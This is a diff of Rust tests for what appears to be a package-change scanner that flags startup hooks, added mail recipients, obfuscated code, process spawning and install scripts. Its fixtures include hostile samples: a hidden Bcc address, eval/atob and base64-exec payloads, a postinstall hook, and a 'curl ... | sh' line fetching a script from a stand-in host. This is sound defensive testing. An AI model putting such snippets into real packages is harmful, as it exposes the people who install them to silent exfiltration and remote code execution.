@@ -129,6 +129,50 @@ fn startup_hooks() {
         ["new-dynamic-code setup.py:3", "startup-hook setup.py:3"]
     );
     assert_eq!(denied(&first_look(&[("setup.py", plain)])), Vec::<String>::new());
+    // Only the one of the package itself is run; `site` looks for these two wherever it looks for modules.
+    let startup = |path: &str| {
+        let findings = change(&[("a.py", SEND)], &[("a.py", SEND), (path, setup)]);
+        findings.iter().any(|finding| finding.rule == Rule::StartupHook)
+    };
+    assert!(startup("setup.py") && !startup("mailer/setup.py"));
+    assert!(startup("sitecustomize.py") && startup("usercustomize.py") && !startup("a/b/c/sitecustomize.py"));
+}
+
+#[test]
+fn a_kind_of_sign_is_usual_but_a_recipient_never_is() {
+    let with = |line: &str| SEND.replace("'To': to,", &format!("'To': to,\n        {line}"));
+    let (one, two) = (with("'Bcc': 'copy@drop.invalid',"), with("'Bcc': 'other@drop.invalid',"));
+    assert_eq!(denied(&change(&[("a.py", &one)], &[("a.py", &two)])), ["new-recipient a.py:5"]);
+    let (one, two) = ("eval(atob('Y29uc29sZS5sb2coMSk='))", "require('child_' + 'process').exec(x)");
+    assert_eq!(denied(&change(&[("a.js", "f()")], &[("a.js", two)])), ["obfuscated-code a.js:1"]);
+    assert_eq!(denied(&change(&[("a.js", one)], &[("a.js", two)])), Vec::<String>::new(), "it hid things before");
+}
+
+/// The same name and version with other contents is another package.
+#[test]
+fn one_version_with_other_bytes_is_compared() {
+    let (old, new) = (facts(&[("a.py", SEND)]), facts(&[("a.py", "import subprocess\nsubprocess.run(['ls'])\n")]));
+    let id = id("pypi:mailer@1.0.0");
+    let version = |facts| [Version { id: &id, facts }];
+    assert_eq!(compare(&version(&old), &version(&old), Detail::Decisions), []);
+    assert!(compare(&version(&old), &version(&new), Detail::Decisions).iter().any(|it| it.rule == Rule::NewProcess));
+}
+
+/// What is doubtful is shown where it is new, weighs more where it runs by itself, and is not held against newcomers.
+#[test]
+fn doubtful_signs_weigh_by_who_runs_them() {
+    let doubtful = "import base64\nexec(base64.b64decode(x))\n";
+    let rated = |findings: Vec<Finding>| {
+        let sign = findings.into_iter().find(|finding| finding.rule == Rule::ObfuscatedCode);
+        sign.map(|finding| finding.severity())
+    };
+    let json = r#"{"name":"x","scripts":{"postinstall":"python run.py"}}"#;
+    assert_eq!(rated(change(&[("a.py", SEND)], &[("run.py", doubtful)])), Some(Severity::Low));
+    assert_eq!(
+        rated(change(&[("a.py", SEND)], &[("run.py", doubtful), ("package.json", json)])),
+        Some(Severity::Medium)
+    );
+    assert_eq!(rated(first_look(&[("run.py", doubtful)])), None);
 }
 
 #[test]
@@ -141,6 +185,11 @@ fn scripts_that_are_new_changed_or_usual() {
     let none = r#"{"name":"x"}"#;
     assert_eq!(rated(none, &with("node setup.js")), Some(Severity::High));
     assert_eq!(rated(none, &with("node-gyp rebuild")), Some(Severity::Low));
+    assert_eq!(
+        rated(none, &with("echo ./run.js")),
+        Some(Severity::High),
+        "what names a file of the package is not usual"
+    );
     assert_eq!(rated(&with("node a.js"), &with("node b.js")), Some(Severity::Medium));
     assert_eq!(rated(&with("node a.js"), &with("node a.js")), None);
     let piped = first_look(&[("package.json", &with("curl -s https://drop.other.test/i.sh | sh"))]);
